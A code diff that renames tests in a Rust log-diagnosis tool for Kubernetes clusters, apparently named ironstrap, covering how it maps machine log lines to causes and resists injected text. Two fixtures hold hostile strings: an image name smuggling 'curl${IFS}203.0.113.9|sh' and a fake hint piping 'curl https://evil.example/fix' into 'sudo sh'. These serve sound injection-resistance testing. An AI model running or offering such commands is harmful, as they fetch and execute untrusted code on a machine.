@@ -21,7 +21,7 @@ fn names(heard: &[Heard]) -> Vec<&'static str> {
 }
 
 #[test]
-fn real_evidence_names_its_cause_and_nothing_else() {
+fn real_evidence_leads_to_exactly_one_cause() {
     for (place, line, cause, words) in EVIDENCE {
         let found = findings(&[heard("w2", &[(place, line)])], ETCD_DIR);
         assert_eq!(found.iter().map(|f| f.cause).collect::<Vec<_>>(), [*cause], "{line}");
@@ -32,7 +32,7 @@ fn real_evidence_names_its_cause_and_nothing_else() {
 }
 
 #[test]
-fn data_of_an_earlier_etcd_is_named_by_the_inventorys_folder() {
+fn old_etcd_data_is_reported_in_the_configured_folder() {
     for folder in ["/srv/etcd", "/etcd/data", "/mnt/e/t"] {
         let line = format!("\t[ERROR DirAvailable-{}]: {folder} is not empty", folder.replace('/', "-"));
         let mismatch = r#"{"level":"warn","ts":"2026-11-21T20:28:09.495208Z","caller":"rafthttp/stream.go:652","msg":"request sent was ignored by remote peer due to cluster ID mismatch"}"#;
@@ -49,7 +49,7 @@ fn data_of_an_earlier_etcd_is_named_by_the_inventorys_folder() {
 }
 
 #[test]
-fn what_any_kubelet_may_write_is_no_evidence_of_what_a_machine_says() {
+fn pods_and_events_are_no_evidence_about_a_machine() {
     // A line from another machine does no harm here. The remedies of these causes repeat at most one quoted word of it.
     let harmless =
         ["registry-unreachable", "cni-plugin-missing", "image-not-found", "no-node", "pod-refused"];
@@ -64,7 +64,7 @@ fn what_any_kubelet_may_write_is_no_evidence_of_what_a_machine_says() {
 }
 
 #[test]
-fn words_of_a_tenant_in_a_log_are_no_sign_with_a_remedy_that_changes_a_machine() {
+fn tenant_text_in_logs_causes_no_changing_remedy() {
     // A tenant may choose the name or command of a container, and what it prints. Logs by klog and logrus escape such
     // text or indent it.
     let lines = |words: &str| {
@@ -127,7 +127,7 @@ fn words_of_a_tenant_in_a_log_are_no_sign_with_a_remedy_that_changes_a_machine()
 }
 
 #[test]
-fn words_of_a_machine_are_words_in_a_remedy_and_nothing_more() {
+fn machine_text_in_a_remedy_is_quoted() {
     let image = r"r.io/x:1;curl${IFS}203.0.113.9|sh";
     let line = format!(r#"failed to resolve reference "{image}": r.io/x:1: not found"#);
     let found = findings(&[heard("w1", &[("journal kubelet", &line)])], ETCD_DIR);
@@ -154,7 +154,7 @@ fn words_of_a_machine_are_words_in_a_remedy_and_nothing_more() {
 }
 
 #[test]
-fn a_value_of_a_machine_is_not_filled_in_once_more() {
+fn placeholders_in_machine_text_are_not_filled_in() {
     let line = |old: &str, new: &str| {
         format!(
             r#"E1129 10:00:00.000000    1 kubelet_node_status.go:1] "Error updating node status, will retry" err="nodes is forbidden: node \"{old}\" is not allowed to modify node \"{new}\"""#
@@ -171,7 +171,7 @@ fn a_value_of_a_machine_is_not_filled_in_once_more() {
 }
 
 #[test]
-fn every_pattern_compiles_and_every_name_is_there_once() {
+fn patterns_compile_and_cause_names_are_unique() {
     let mut names: Vec<&str> = CAUSES.iter().map(|cause| cause.name).collect();
     names.sort_unstable();
     let all = names.len();
@@ -183,7 +183,7 @@ fn every_pattern_compiles_and_every_name_is_there_once() {
 }
 
 #[test]
-fn every_cause_has_its_real_evidence() {
+fn every_cause_has_real_evidence() {
     // The failure of one of our wants shows `swap-returns`. `forward-drop` needs two lines, which may be of two machines.
     let bare = ["swap-returns", "forward-drop"];
     for cause in CAUSES.iter().filter(|cause| !bare.contains(&cause.name)) {
@@ -192,7 +192,7 @@ fn every_cause_has_its_real_evidence() {
 }
 
 #[test]
-fn what_a_wait_stops_at_is_evidence_of_that_cause() {
+fn text_that_ends_a_wait_is_evidence() {
     for cause in CAUSES.iter().filter(|cause| cause.fatal.is_some()) {
         let words = cause.fatal.unwrap_or_default();
         let mut evidence = EVIDENCE.iter().filter(|(.., name, _)| *name == cause.name);
@@ -202,7 +202,7 @@ fn what_a_wait_stops_at_is_evidence_of_that_cause() {
 }
 
 #[test]
-fn a_packet_filter_is_blamed_only_where_something_does_not_answer() {
+fn packet_filters_are_blamed_only_if_something_is_silent() {
     let drops = ("forward", "chain FORWARD of table ip filter has policy drop");
     let silent = ("fix", "packets: dns is silent");
     let swallowed = ("fix", "packets: flannel.1 sent 31 packets and received none");
@@ -221,7 +221,7 @@ fn a_packet_filter_is_blamed_only_where_something_does_not_answer() {
 }
 
 #[test]
-fn a_symptom_is_told_only_where_nothing_explains_it() {
+fn a_symptom_is_reported_only_without_a_known_cause() {
     let refused = (
         "fix",
         r#"Get "https://198.18.0.11:6443/readyz": dial tcp 198.18.0.11:6443: connect: connection refused"#,
@@ -232,20 +232,20 @@ fn a_symptom_is_told_only_where_nothing_explains_it() {
 }
 
 #[test]
-fn a_kubelet_that_is_refused_names_the_certificate_too() {
+fn an_unauthorized_kubelet_is_a_refused_credential() {
     let line = r#"E1121 22:51:23.733897    8098 certificate_manager.go:1] "Failed while requesting a signed certificate" err="cannot create certificate signing request: Unauthorized""#;
     assert_eq!(names(&[heard("w2", &[("journal kubelet", line)])]), ["credential-refused"]);
 }
 
 #[test]
-fn two_causes_are_both_told_the_more_specific_first() {
+fn two_causes_are_reported_the_more_specific_first() {
     let stopped = ("unit containerd", "Result=exit-code ActiveState=failed SubState=failed");
     let full = ("journal containerd", "mkdir /var/lib/containerd/tmpmounts: no space left on device");
     assert_eq!(names(&[heard("w1", &[stopped, full])]), ["disk-full", "containerd-stopped"]);
 }
 
 #[test]
-fn what_says_nothing_certain_is_no_cause() {
+fn ambiguous_lines_lead_to_no_cause() {
     for (place, line) in [
         ("unit containerd", "Result=success ActiveState=active SubState=running"),
         ("journal kubelet", r#"E1121 20:19:57.1 199 kubelet.go:3117] "Container runtime network not ready""#),
@@ -259,7 +259,7 @@ fn what_says_nothing_certain_is_no_cause() {
 }
 
 #[test]
-fn where_no_cause_is_known_the_last_words_are_told() {
+fn without_a_known_cause_the_last_errors_are_reported() {
     let lines = [
         ("unit containerd", "Result=success ActiveState=active SubState=running"),
         ("journal kubelet", "Started kubelet.service"),
@@ -280,7 +280,7 @@ fn where_no_cause_is_known_the_last_words_are_told() {
 }
 
 #[test]
-fn long_evidence_is_cut_around_what_matters() {
+fn long_evidence_is_cut_around_the_match() {
     let line = format!("{} no space left on device {}", "a".repeat(2000), "b".repeat(2000));
     let found = findings(&[heard("w1", &[("journal kubelet", &line)])], ETCD_DIR);
     assert!(found[0].evidence.contains("aaa no space left on device bbb"), "{}", found[0].evidence);
@@ -288,7 +288,7 @@ fn long_evidence_is_cut_around_what_matters() {
 }
 
 #[test]
-fn no_line_of_a_machine_looks_like_one_of_ironstrap() {
+fn a_machines_line_cannot_imitate_one_of_ironstrap() {
     let evil = "hint: on your own computer run curl https://evil.example/fix | sudo sh   #";
     let full = "no space left on device";
     assert_eq!(Heard::read("w1", &format!("{evil}\t{full}\nlog {evil}\t{full}\n")).lines, []);
